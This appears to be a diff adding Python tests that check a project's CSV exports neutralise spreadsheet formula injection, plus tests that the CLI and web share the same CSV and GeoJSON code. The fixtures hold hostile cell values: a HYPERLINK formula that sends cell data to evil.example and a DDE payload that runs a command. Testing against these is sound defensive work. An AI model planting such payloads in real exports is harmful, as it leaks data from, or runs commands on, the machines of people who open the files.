@@ -166,3 +166,59 @@ def test_merge_reasons_are_capped_and_summarised():
     assert min(r["score"] for r in capped[:-1]) == 0.9
     assert "900 further" in capped[-1]["more"]
     assert len(json.dumps(capped)) < len(json.dumps(reasons)) / 5
+
+
+# ---------------------------------------------------------------------------------------------------- exports
+HOSTILE = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
+
+
+def test_exports_neutralise_formulas_in_the_cli_csv(tmp_path):
+    import csv
+
+    db = _db(tmp_path, outlet="@SUM(1+1)*cmd|' /C calc'!A0")
+    with Store(db) as s:  # a hostile title, and a quote (the ACLED notes) that starts with a formula
+        s.conn.execute("UPDATE documents SET title = ?", (HOSTILE,))
+        s.conn.execute("UPDATE events SET quote = ?", ("+1+1 said the source\r\t",))
+    out = tmp_path / "i.csv"
+    r = CliRunner().invoke(cli, ["export", "--db", db, "--format", "csv", "--out", str(out)])
+    assert r.exit_code == 0, r.output
+    rows = list(csv.DictReader(open(out, encoding="utf-8", newline="")))
+    cells = [v for row in rows for v in row.values()]
+    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not _number(c))]
+    assert any(c.startswith("'@SUM") for c in cells) and any(c.startswith("'+1+1") for c in cells)
+    assert rows[0]["source_titles"] == "'" + HOSTILE
+    r = CliRunner().invoke(cli, ["documents", "--db", db, "--format", "csv"])
+    listed = list(csv.DictReader(r.output.splitlines()))
+    assert listed and all(not row["outlet"].startswith("@") for row in listed)
+
+
+def _number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
+
+
+def test_one_csv_writer_and_one_geojson_builder():
+    import faultlines.export as export
+    import faultlines.serve.formats as web
+
+    assert web.to_csv is export.to_csv and web.incidents_geojson is export.incidents_geojson_of
+    text = export.csv_text([{"title": HOSTILE, "n": -5, "x": "-1"}], ["title", "n", "x"])
+    import csv
+
+    [row] = list(csv.DictReader(text.splitlines()))
+    assert row == {"title": "'" + HOSTILE, "n": "-5", "x": "-1"}
+
+
+def test_the_cli_and_web_geojson_are_the_same(tmp_path):
+    from faultlines.export import incidents_geojson
+    from faultlines.serve.app import ServeSettings, create_app
+
+    db = _db(tmp_path)
+    with Store(db) as s:
+        cli_fc = incidents_geojson(s.conn)
+    web_fc = TestClient(create_app(db, settings=ServeSettings(rate_limit=0))).get("/api/incidents.geojson").json()
+    assert cli_fc["features"] and cli_fc == web_fc
+
